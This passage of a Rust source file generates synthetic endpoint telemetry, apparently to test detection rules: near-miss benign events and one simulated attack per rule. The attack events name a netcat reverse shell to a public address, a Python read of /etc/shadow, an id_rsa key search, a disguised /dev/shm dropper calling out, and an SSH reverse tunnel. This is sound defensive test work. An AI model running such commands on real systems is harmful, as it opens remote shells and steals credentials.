                let shell = self.session();
                let p = self.spawn(
                    &shell,
                    "/usr/sbin/unix_chkpwd",
                    &["unix_chkpwd", "alice", "nonull"],
                    (FD_PIPE, FD_PIPE),
                );
                self.open(&p, "/etc/shadow", 0);
            }
            1 => {
                // A shell in a container, without a terminal (an entrypoint script).
                let idx = self.rng.below(self.containers.len() as u64) as usize;
                let shim = shim_of(&self.containers[idx]);
                let sh = self.spawn(
                    &shim,
                    "/bin/sh",
                    &["/bin/sh", "/docker-entrypoint.sh"],
                    (FD_NULL, FD_PIPE),
                );
                self.open(&sh, "/docker-entrypoint.sh", 0);
            }
            2 => {
                // grep for the word "key" in a config: not a private key hunt.
                let shell = self.session();
                self.spawn(
                    &shell,
                    "/usr/bin/grep",
                    &["grep", "-i", "api_key", "/etc/app/config.yaml"],
                    (FD_TTY, FD_TTY),
                );
            }
            3 => {
                // A socket-activated service with stdin and stdout on a socket, not a shell.
                let init = self.init.clone();
                self.spawn(
                    &init,
                    "/usr/sbin/in.tftpd",
                    &["in.tftpd", "-s", "/srv/tftp"],
                    (FD_SOCKET, FD_SOCKET),
                );
            }
            4 => {
                // The web server's child that is not a shell.
                let php = self.rng.pick(&self.php_workers).clone();
                self.spawn(
                    &php,
                    "/usr/bin/ffmpeg",
                    &[
                        "ffmpeg",
                        "-i",
                        "/tmp/upload.mp4",
                        "-vframes",
                        "1",
                        "/tmp/poster.jpg",
                    ],
                    (FD_NULL, FD_PIPE),
                );
            }
            _ => {
                // A program run from /dev, not /dev/shm.
                let init = self.init.clone();
                self.spawn(
                    &init,
                    "/usr/lib/udev/ata_id",
                    &["ata_id", "--export", "/dev/sda"],
                    (FD_NULL, FD_PIPE),
                );
            }
        }
    }

    // ---- attacks, one per bundled example rule ----

    fn attack(&mut self) {
        let tty = (FD_TTY, FD_TTY);
        match self.rng.below(11) {
            0 => {
                // shell_in_container: `docker exec -it app bash`.
                let idx = self.rng.below(self.containers.len() as u64) as usize;
                let mut shim = shim_of(&self.containers[idx]);
                shim.tty = "pts/0".to_string();
                let sh = self.spawn(&shim, "/bin/bash", &["bash"], tty);
                self.open(&sh, "/root/.bash_history", O_APPEND_WRITE);
            }
            1 => {
                // sensitive_file_read: a script reads the shadow file.
                let shell = self.session();
                let mut root = shell.clone();
                root.uid = 0;
                let py = self.spawn(
                    &root,
                    "/usr/bin/python3",
                    &["python3", "-c", "print(open('/etc/shadow').read())"],
                    tty,
                );
                self.open(&py, "/etc/shadow", O_RDONLY_CLOEXEC);
            }
            2 => {
                // netcat_exec: a reverse shell with nc -e.
                let php = self.rng.pick(&self.php_workers).clone();
                let addr = self.public_addr().to_string();
                let nc = self.spawn(
                    &php,
                    "/usr/bin/nc",
                    &["nc", "-e", "/bin/sh", &addr, "4444"],
                    (FD_NULL, FD_NULL),
                );
                let dst = addr.parse().unwrap_or(Ipv4Addr::new(45, 1, 2, 3));
                self.connect(&nc, dst, 4444, TCP);
            }
            3 => {
                // private_key_search.
                let shell = self.session();
                self.spawn(
                    &shell,
                    "/usr/bin/find",
                    &["find", "/home", "-name", "id_rsa*"],
                    tty,
                );
            }
            4 => {
                // exec_from_dev_shm: a dropper.
                let php = self.rng.pick(&self.php_workers).clone();
                let p = self.spawn(
                    &php,
                    "/dev/shm/.x/kworkerd",
                    &["[kworker/0:2]"],
                    (FD_NULL, FD_NULL),
                );
                self.connect(&p, Ipv4Addr::new(193, 42, 33, 14), 8443, TCP);
            }
            5 => {
                // webserver_shell: command injection through nginx.
                let worker = self.rng.pick(&self.nginx_workers).clone();
                self.spawn(
                    &worker,
                    "/bin/sh",
                    &["sh", "-c", "uname -a; id"],
                    (FD_PIPE, FD_PIPE),
                );
            }
            6 => {
                // ssh_nonstandard_port: tunnelling out.
                let shell = self.session();
                let dst = self.public_addr();
                let d = dst.to_string();
                let p = self.spawn(
                    &shell,
                    "/usr/bin/ssh",
                    &["ssh", "-N", "-R", "9000:localhost:22", "-p", "443", &d],
                    tty,
                );
                self.connect(&p, dst, 443, TCP);
            }
            7 => {
                // socket_redirect: `bash -i >& /dev/tcp/...`.
                let php = self.rng.pick(&self.php_workers).clone();
                self.spawn(
                    &php,
                    "/usr/bin/bash",
                    &["bash", "-i"],
                    (FD_SOCKET, FD_SOCKET),
                );
            }
            8 => {
                // webshell_recon.
                let apache = self.apache.clone();
                self.spawn(&apache, "/usr/bin/whoami", &["whoami"], (FD_PIPE, FD_PIPE));
            }
            9 => {
                // failed_logins: a brute force, six failures from one address.
                let from = self.public_addr();
                let sshd = self.sshd.clone();
                for _ in 0..6 {
                    self.auth(&sshd, "root", "sshd", Some(from), false);
                }
            }
            _ => {
                // exe_first_byte: a relative path.
                let shell = self.session();
                self.spawn(&shell, "./payload", &["./payload", "--daemon"], tty);
            }
        }
    }

    // ---- JSON ----

    /// Queues the event of `proc` with `detail`.
    fn emit(&mut self, proc: &Proc, detail: &Detail<'_>) {
        let line = &mut self.line;
        line.clear();
        let kind = match detail {
            Detail::Exec { .. } => "process_exec",
            Detail::Open { .. } => "file_open",
            Detail::Connect { .. } => "network_connect",
            Detail::Auth { .. } => "auth_attempt",
        };
        let _ = write!(
            line,
            "{{\"type\":\"{kind}\",\"pid\":{},\"ppid\":{},\"uid\":{},\"gid\":{},\"exe\":",
            proc.pid, proc.ppid, proc.uid, proc.gid
        );
        json_str(line, &proc.exe);
        line.push_str(",\"args\":[");
        for (i, arg) in proc.args.iter().enumerate() {
            if i > 0 {
                line.push(',');
            }
            json_str(line, arg);
        }
        line.push_str("],\"cwd\":");
        json_str(line, &proc.cwd);
        line.push_str(",\"parent_exe\":");
        json_str(line, &proc.parent_exe);
        line.push_str(",\"tty\":");
        json_str(line, &proc.tty);
        line.push_str(",\"container_id\":");
        json_str(line, &proc.container_id);
        match detail {
            Detail::Exec { stdin, stdout } => {
                let _ = write!(line, ",\"stdin_type\":{stdin},\"stdout_type\":{stdout}");
            }
            Detail::Open { path, flags } => {
                line.push_str(",\"path\":");
                json_str(line, path);
                let _ = write!(line, ",\"flags\":{flags}");
            }
            Detail::Connect {
                saddr,
                daddr,
                sport,
                dport,
                protocol,
            } => {
                let _ = write!(
                    line,
                    ",\"saddr\":\"{saddr}\",\"daddr\":\"{daddr}\",\"sport\":{sport},\"dport\":{dport},\"protocol\":{protocol}"
                );
            }
            Detail::Auth {
                user,
                service,
                saddr,
                success,
            } => {
                line.push_str(",\"user\":");
                json_str(line, user);
                line.push_str(",\"service\":");
                json_str(line, service);
                let saddr = saddr.unwrap_or(Ipv4Addr::UNSPECIFIED);
                let _ = write!(line, ",\"saddr\":\"{saddr}\",\"success\":{success}");
            }
        }
        line.push('}');
        self.pending.push_back(line.clone());
    }
}

impl Iterator for Synth {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        Some(self.next_line())
    }
}

/// The container shim (`containerd-shim-runc-v2`) of a container's application: the parent
/// of what runs in the container besides the application (health checks, `docker exec`).
fn shim_of(app: &Proc) -> Proc {
    Proc {
        pid: app.ppid,
        ppid: 520,
        exe: app.parent_exe.clone(),
        args: vec![app.parent_exe.clone(), "-namespace".into(), "moby".into()],
        parent_exe: "/usr/bin/containerd".to_string(),
        ..app.clone()
    }
}

/// Appends `text` as a JSON string.
fn json_str(out: &mut String, text: &str) {
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// SplitMix64 (Steele, Lea and Flood, 2014): small, fast, and the same on every platform.
#[derive(Clone, Debug)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5851_f42d_4c95_7f2d)
    }

    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`), by Lemire's multiply-shift.
    fn below(&mut self, n: u64) -> u64 {
        ((self.next_u64() as u128 * n as u128) >> 64) as u64
    }

    /// True with probability `per_mille / 1000`.
    fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Encoder, EventBuf, SchemaSet};

    #[test]
    fn same_seed_same_events_other_seed_other_events() {
        let a: Vec<String> = Synth::new(SynthConfig::with_seed(7)).take(2000).collect();
        let b: Vec<String> = Synth::new(SynthConfig::with_seed(7)).take(2000).collect();
        let c: Vec<String> = Synth::new(SynthConfig::with_seed(8)).take(2000).collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn every_event_encodes_and_all_types_appear() {
        let encoder = Encoder::new(&SchemaSet::endpoint());
        let mut buf = EventBuf::new();
        let mut by_type = [0u32; 5];
        for (i, line) in Synth::new(SynthConfig::with_seed(1))
            .take(20_000)
            .enumerate()
        {
            encoder
                .encode_line(&line, i + 1, &mut buf)
                .unwrap_or_else(|e| panic!("{e}\n{line}"));
            by_type[buf.type_id() as usize] += 1;
        }
        assert!(by_type[1..].iter().all(|&n| n > 200), "{by_type:?}");
    }

    #[test]
    fn children_name_a_parent_that_exists() {
        let mut known = std::collections::HashSet::from([0u32, 1, 812, 640, 1020, 1099, 1200]);
        let mut synth = Synth::new(SynthConfig::with_seed(3));
        // The processes started before the first event.
        known.extend(synth.sessions.iter().map(|p| p.pid));
        known.extend(synth.sessions.iter().map(|p| p.ppid));
        known.extend(synth.containers.iter().map(|p| p.pid));
        known.extend(synth.containers.iter().map(|p| p.ppid));
        known.extend(synth.nginx_workers.iter().map(|p| p.pid));
        known.extend(synth.php_workers.iter().map(|p| p.pid));
        known.extend(synth.daemons.iter().map(|p| p.pid));
        let mut orphans = 0;
        for line in synth.by_ref().take(5000) {
            let v: serde_json::Value = serde_json::from_str(&line).unwrap();
            let pid = v["pid"].as_u64().unwrap() as u32;
            let ppid = v["ppid"].as_u64().unwrap() as u32;
            known.insert(pid);
            if !known.contains(&ppid) {
                orphans += 1;
            }
        }
        assert_eq!(orphans, 0);
    }
}
